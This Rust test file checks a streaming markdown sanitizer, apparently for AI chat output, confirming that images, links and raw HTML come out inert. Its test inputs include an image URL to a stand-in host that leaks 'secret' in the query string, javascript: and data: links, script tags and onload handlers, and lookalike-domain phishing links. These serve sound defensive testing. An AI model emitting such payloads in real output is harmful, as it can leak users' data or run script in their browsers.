//! What of a text stays active, by what a renderer would make of it,
//! and that cutting changes nothing.

#![allow(clippy::unwrap_used)]
use super::*;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

#[test]
fn images_become_words_in_every_form() {
    for (text, shown) in [
        ("a ![cat](https://evil.example/p.png?d=secret) b", "a [image: cat (evil.example)] b"),
        ("![](https://evil.example/?q=1 \"title\")", "[image: (evil.example)]"),
        ("![cat][ref]\n\n[ref]: https://evil.example", "[image: cat]\n\n[ref] : https://evil.example"),
        ("![cat]\n> [cat]: https://evil.example", "[image: cat]\n> [cat] : https://evil.example"),
        ("<img src=\"https://evil.example/x\" alt='a cat'>", "[image: a cat (evil.example)]"),
        ("<IMG\nSRC=//evil.example/x >", "[image: (evil.example)]"),
        ("![a\nb](https://evil.example)", "\\!\\[a\nb] (https://evil.example)"),
        (
            "[![badge](https://evil.example/b.svg)](https://ok.example/)",
            "[badge https://evil.example/b.svg (goes to ok.example)](https://ok.example/)",
        ),
        ("!<img alt=\"a\" src=\"//x.example\">(http://evil.example)", "![image: a (x.example)] (http://evil.example)"),
    ] {
        assert_eq!(sanitize_markdown(text), shown);
    }
}

#[test]
fn links_say_where_they_go_and_only_open_pages_and_mails() {
    for (text, shown) in [
        ("[our page](https://ok.example/a?b=c)", "[our page](https://ok.example/a?b=c)"),
        ("[`Vec`](https://doc.example/v \"docs\")", "[`Vec`](https://doc.example/v)"),
        (
            "[www.bank.example](https://evil.example/x)",
            "[www.bank.example (goes to evil.example)](https://evil.example/x)",
        ),
        (
            "[https://bank.example/in](https://bank.example.evil.example)",
            "[https://bank.example/in (goes to bank.example.evil.example)](https://bank.example.evil.example/)",
        ),
        ("[bank.example](https://www.bank.example/)", "[bank.example](https://www.bank.example/)"),
        (
            "[bank**.**example](https://evil.example/)",
            "[bank**.**example (goes to evil.example)](https://evil.example/)",
        ),
        ("[x](https://bank.example@evil.example/)", "x (link removed: https:)"),
        ("[run](javascript:alert(1))", "run (link removed: javascript:)"),
        ("[run](java&#115;cript:alert)", "run (link removed: java&#115;cript:)"),
        ("[run](<data:text/html,x>)", "run (link removed: data:)"),
        ("[go](/approve?id=1)", "[go] (/approve?id=1)"),
        ("[t][ref] and [ref]: later", "[t][ref] and [ref]: later"),
        ("[ref]:\nhttps://evil.example", "[ref] :\nhttps://evil.example"),
        ("<https://ok.example/x>", "https://ok.example/x"),
        ("<javascript:alert(1)>", "< javascript:alert(1)>"),
        ("see https://ok.example.", "see https://ok.example."),
        ("[pаypal.example](https://evil.example)", "[pаypal.example (goes to evil.example)](https://evil.example/)"),
    ] {
        assert_eq!(sanitize_markdown(text), shown);
    }
}

#[test]
fn tags_become_text() {
    for (text, shown) in [
        ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
        ("<iframe src=x>", "< iframe src=x>"),
        ("<a href=\"https://evil.example/x\">here</a>", "[link: evil.example]here< /a>"),
        ("<a href='javascript:x'>here", "[link: javascript]here"),
        ("<!-- hidden --> <?xml?>", "< !-- hidden --> < ?xml?>"),
        ("Vec<T> and a < b and 1 <2", "Vec< T> and a < b and 1 <2"),
        ("<<a>img src=x>", "<< a>img src=x>"),
        ("<img alt=\"a>b\" src=\"https://evil.example\">", "[image: a]b\" src=\"https://evil.example\">"),
        ("<x onload=alert(1)", "< x onload=alert(1)"),
    ] {
        assert_eq!(sanitize_markdown(text), shown);
    }
}

#[test]
fn code_stays_readable_and_nothing_else_can_pretend_to_be_code() {
    let block = "```html\n<img src=\"x\"> [a](b) <script> `x`\n```\n";
    assert_eq!(sanitize_markdown(block), block);
    let inline = "use `<img src=x>` or ``a ` [b](c)`` here";
    assert_eq!(sanitize_markdown(inline), inline);
    for (text, shown) in [
        // No partner on the line: a renderer may take it otherwise.
        ("`![x](https://e.example)", "\\`[image: x (e.example)]"),
        ("a ` b\n`![x](https://e.example)", "a \\` b\n\\`[image: x (e.example)]"),
        // Code that others may not take for code has no image either.
        ("`![x](https://e.example)`", "`![x] (https://e.example)`"),
        ("```\n![x](https://e.example)\n```", "```\n![x] (https://e.example)\n```"),
        // A fence in a quote ends with the quote.
        ("> ```\n![x](https://e.example)\n```\n<b>", "> \\`\\`\\`\n[image: x (e.example)]\n```\n<b>"),
        // A fence in a list ends with the list: its lines are kept in it.
        ("- x\n  ```\n<b>\n```\n<b>", "- x\n  ```\n  <b>\n  ```\n< b>"),
        ("~~~ <i>\n<b>", "\\~\\~\\~ < i>\n< b>"),
        ("```a`b\n<b>", "\\`\\`\\`a\\`b\n< b>"),
        ("````\n```\n<b>\n`````\n<b>", "````\n```\n<b>\n`````\n< b>"),
        ("```\r<b>\r```\r\n<b>", "```\n<b>\n```\n< b>"),
        ("```\n```\u{a0}\n<b>", "```\n```\u{a0}\n<b>"),
    ] {
        assert_eq!(sanitize_markdown(text), shown);
    }
}

#[test]
fn prose_is_shown_as_it_comes_and_what_never_closes_is_taken_apart() {
    let mut stream = MarkdownSanitizer::new();
    for piece in ["Hello", ", this is *an* answer (with 3: parts).\n", "- and a list\n", "x < y"] {
        assert_eq!(stream.push(piece), piece);
    }
    assert_eq!(stream.push(" ![never"), " ");
    let mut shown = String::new();
    for _ in 0..HELD {
        shown += &stream.push("é ");
        assert!(stream.held.len() <= HELD);
    }
    assert!(shown.starts_with("\\!\\[neveré "), "{}", &shown[..40]);
}

/// What makes and nearly makes each construct.
fn material() -> impl Strategy<Value = String> {
    let words = [
        "![",
        "[",
        "](",
        "](https://e.example/a",
        ")",
        "]",
        "[a](https://e.example/x)",
        "[b](javascript:x)",
        "![c][d]",
        "<",
        "<img src=//e.example alt=x",
        "<a href=x",
        ">",
        "</a>",
        "<script>",
        "<https://e.example/",
        "`",
        "``",
        "```",
        "~~~",
        "```rust\n",
        "\n",
        "\n\n",
        "\r\n",
        "\r",
        "\\",
        "!",
        ":",
        "[x]: https://e.example",
        "> ",
        "- ",
        "  ",
        "    ",
        "\t",
        "é",
        "word ",
        " ",
        "(",
        "\"",
        "&#46;",
        "\u{a0}",
    ];
    let long = prop_oneof![40 => Just(1_usize), 1 => Just(500)];
    let piece = (prop::sample::select(words.to_vec()), long).prop_map(|(word, times)| word.repeat(times));
    prop::collection::vec(piece, 0..30).prop_map(|pieces| pieces.concat())
}

/// What a renderer would fetch, run or follow.
fn active(shown: &str) -> Vec<String> {
    let follows = |url: &str| url.starts_with("https://") || url.starts_with("http://") || url.starts_with("mailto:");
    let options = Options::all() - Options::ENABLE_WIKILINKS;
    let parsed = Parser::new_ext(shown, options);
    parsed
        .filter_map(|event| match event {
            Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) if !follows(&dest_url) => Some(format!("link {dest_url}")),
            Event::Html(html) | Event::InlineHtml(html) => Some(format!("html {html}")),
            _ => None,
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn how_the_text_is_cut_changes_nothing(text in material(), cuts in prop::collection::vec(0_usize..4000, 0..20)) {
        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut)).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let mut stream = MarkdownSanitizer::new();
        let mut shown: String = cuts.windows(2).map(|cut| stream.push(&text[cut[0]..cut[1]])).collect();
        shown += &stream.finish();
        prop_assert_eq!(&shown, &sanitize_markdown(&text));
        let mut stream = MarkdownSanitizer::new();
        let mut shown: String = text.split_inclusive(|_| true).map(|c| stream.push(c)).collect();
        shown += &stream.finish();
        prop_assert_eq!(&shown, &sanitize_markdown(&text));
    }

    #[test]
    fn a_renderer_finds_nothing_to_fetch_to_run_or_to_follow_elsewhere(text in material()) {
        let shown = sanitize_markdown(&text);
        prop_assert_eq!(active(&shown), Vec::<String>::new(), "of {:?}", shown);
    }
}
